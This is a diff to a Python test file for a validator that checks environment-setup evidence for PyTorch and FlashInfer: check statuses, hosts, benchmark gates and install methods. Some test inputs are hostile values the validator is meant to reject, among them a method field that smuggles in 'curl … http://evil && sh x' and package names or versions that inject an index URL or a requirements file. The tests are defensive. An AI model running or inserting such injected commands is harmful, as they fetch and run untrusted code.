@@ -27,6 +27,7 @@ FILES = [
 COMPARED = {
     "name": "4 workers",
     "unit": "s",
+    "better": "lower",
     "baseline": {"median": 10.0},
     "candidate": {"median": 8.0},
     "speedup": 1.25,
@@ -57,8 +58,10 @@ EVIDENCE = {
     "versions": {"torch": "2.8.0+cu128", "flashinfer": "0.3.1"},
     "plan": [{"name": "pynvml", "version": "13.0.1"}, {"name": "flashinfer-python", "version": "0.3.1"}],
     "checks": [
+        {"name": "files", "title": "Every package's files are there", "status": "passed", "reason": ""},
         {"name": "torch", "title": "PyTorch is still 2.8.0+cu128", "status": "passed", "reason": ""},
         {"name": "cuda", "title": "CUDA is available", "status": "not_run", "reason": "no <b>GPU</b> | here"},
+        {"name": "flashinfer", "title": "FlashInfer imports", "status": "passed", "reason": ""},
     ],
     "benchmark": {
         "documents": {"status": "measured", "comparisons": [COMPARED], "stand_in": "a stand-in server", **SCALED},
@@ -66,9 +69,17 @@ EVIDENCE = {
     },
 }
 
+ASKED = {"min_speedup": 1.05, "max_slowdown": 1.0}
+
 
 def contents(project: Path) -> dict[str, bytes]:
     return {str(path.relative_to(project)): path.read_bytes() for path in project.rglob("*") if path.is_file()}
+
+
+def checked(**statuses: str) -> dict:
+    """The evidence's checks, with other statuses by name; an empty one takes a check out."""
+    rows = [{**row, "status": statuses.get(row["name"], row["status"])} for row in EVIDENCE["checks"]]
+    return {"checks": [{**row, "reason": "so it was"} for row in rows if row["status"]]}
 
 
 class Site:
@@ -180,7 +191,20 @@ def test_missing_files_are_made_only_when_asked(site):
     [
         ({"result": "failed"}, "'failed', expected 'verified'"),
         ({"result": "planned"}, "'planned', expected 'verified'"),
-        ({"checks": [{"title": "PyTorch", "status": "failed"}]}, "failed checks .PyTorch."),
+        (checked(cuda="failed"), "failed checks .CUDA is available."),
+        # Nothing passed, or not what the documents say.
+        ({"checks": []}, "expected files, torch, flashinfer to have passed, found none of them checked"),
+        ({"checks": None}, "is no evidence of this collection: checks: "),
+        (
+            checked(files="not_run", torch="not_run", cuda="not_run", flashinfer="not_run"),
+            "found files not_run, torch not_run, flashinfer not_run",
+        ),
+        (checked(torch="not_run"), "found torch not_run"),
+        (checked(flashinfer=""), "found flashinfer not checked"),
+        (checked(files="skipped"), "is no evidence of this collection: checks.0.status: 'skipped'"),
+        ({"host": None}, "names no host"),
+        ({"host": ""}, "names no host"),
+        ({"finished": "yesterday"}, "is no evidence of this collection: finished: 'yesterday'"),
         ({"method": "none"}, "without FlashInfer"),
         ({"method": "pypi; curl -o x http://evil && sh x"}, "expected a method .pypi, source, constrained"),
         ({"method": "auto: auto: pypi"}, "expected a method"),
@@ -189,12 +213,15 @@ def test_missing_files_are_made_only_when_asked(site):
         ({"plan": ["flashinfer-python==0.3.1"]}, "is no evidence"),
         (
             {"benchmark": {"documents": {"comparisons": [{"name": "x", "verdict": "faster"}]}}},
-            "is no evidence.*baseline",
+            "is no evidence of this collection: benchmark.documents: 'status' is a required property",
         ),
         ({"benchmark": {"documents": {"comparisons": [{**COMPARED, "baseline": {"median": None}}]}}}, "is no evidence"),
         ({"versions": {}}, "without FlashInfer"),
-        ({"gate": {"problems": ["too | slow"]}}, "missed the gate: too slow; measure again .*Nothing was touched"),
-        ({"gate": {"problems": ["a", "b"]}}, "missed the gate: a; b; "),
+        (
+            {"gate": {**ASKED, "problems": ["too | slow"]}},
+            "missed the gate: too slow; measure again .*Nothing was touched",
+        ),
+        ({"gate": {**ASKED, "problems": ["a", "b"]}}, "missed the gate: a; b; "),
         ({"plan": [{"name": "--index-url http://evil", "version": "1"}]}, "expected a package with its version"),
         (
             {"plan": [{"name": "flashinfer-python", "version": "1\n-r other.txt"}]},
@@ -217,7 +244,7 @@ def measured(**levels) -> dict:
     return documentable(json.dumps({**EVIDENCE, "benchmark": levels}), "evidence.json")
 
 
-@pytest.mark.parametrize("gate", [{}, {"min_speedup": 1.05, "max_slowdown": 1.0, "problems": []}])
+@pytest.mark.parametrize("gate", [{}, {**ASKED, "problems": []}])
 def test_a_gate_that_was_met_or_not_asked_for_is_no_hindrance(gate):
     assert documentable(json.dumps({**EVIDENCE, "gate": gate}), "evidence.json")["method"] == "pypi"
 
@@ -229,17 +256,20 @@ def test_a_method_that_auto_found_is_the_one_to_give():
     )
 
 
+UNMEASURED = {"name": "x", "unit": "s", "better": "lower"}
+
+
 @pytest.mark.parametrize(
     ("level", "told"),
     [
         ({"status": "failed", "reason": "it broke", "comparisons": []}, ["failed: it broke"]),
         ({"status": "not_run", "reason": "no GPU", "comparisons": []}, ["not run: no GPU"]),
         (
-            {"status": "failed", "comparisons": [COMPARED, {"name": "x", "status": "failed", "reason": "a page"}]},
+            {"status": "failed", "comparisons": [COMPARED, {**UNMEASURED, "status": "failed", "reason": "a page"}]},
             ["failed: a page"],
         ),
         (
-            {"status": "measured", "comparisons": [{"name": "x", "reason": "no such kernel"}]},
+            {"status": "measured", "comparisons": [{**UNMEASURED, "reason": "no such kernel"}]},
             ["not run: no such kernel"],
         ),
         ({"status": "failed", "reason": "a wrong result", "comparisons": [COMPARED]}, ["failed: a wrong result"]),
@@ -254,13 +284,13 @@ LEVEL = {"status": "measured", "comparisons": [COMPARED], "finished": "2026-11-2
 
 
 def test_the_date_is_that_of_each_level():
-    waiting = {"status": "not_run", "reason": "no GPU", "finished": "2026-11-24T02:02:03Z"}
+    waiting = {"status": "not_run", "reason": "no GPU", "comparisons": [], "finished": "2026-11-24T02:02:03Z"}
     kernels = {**LEVEL, "finished": "2026-11-25T01:02:03Z"}
     assert (
         measured(documents=LEVEL, server=waiting, kernels=kernels)["when"]
         == "documents on 2026-11-24, kernels on 2026-11-25"
     )
-    assert measured(documents={**LEVEL, "finished": None})["when"] == ""
+    assert measured(documents={**LEVEL, "status": "not_run"})["when"] == ""
 
 
 @pytest.mark.parametrize(
@@ -270,6 +300,16 @@ def test_the_date_is_that_of_each_level():
 )
 def test_only_figures_of_the_environment_itself_are_pointed_to(changes, counts):
     assert measured(documents={**LEVEL, **changes})["measured"] is counts
+
+
+def test_evidence_of_another_host_is_taken_only_where_the_operator_named_it(site):
+    before = contents(site.project)
+    site.evidence.write_text(json.dumps({**EVIDENCE, "host": "gpu-02"}), encoding="utf-8")
+    said = " ".join(site.run(rc=2).split())
+    assert f"{site.evidence} is evidence of the host 'gpu-02', expected 'gpu-01'" in said
+    assert contents(site.project) == before
+    site.run("-e", f"document_evidence={site.evidence}")
+    assert "verified on gpu-02" in (site.project / "docs/guides/VM_SETUP_COMPLETE.md").read_text(encoding="utf-8")
 
 
 def test_without_evidence_nothing_is_touched(site):
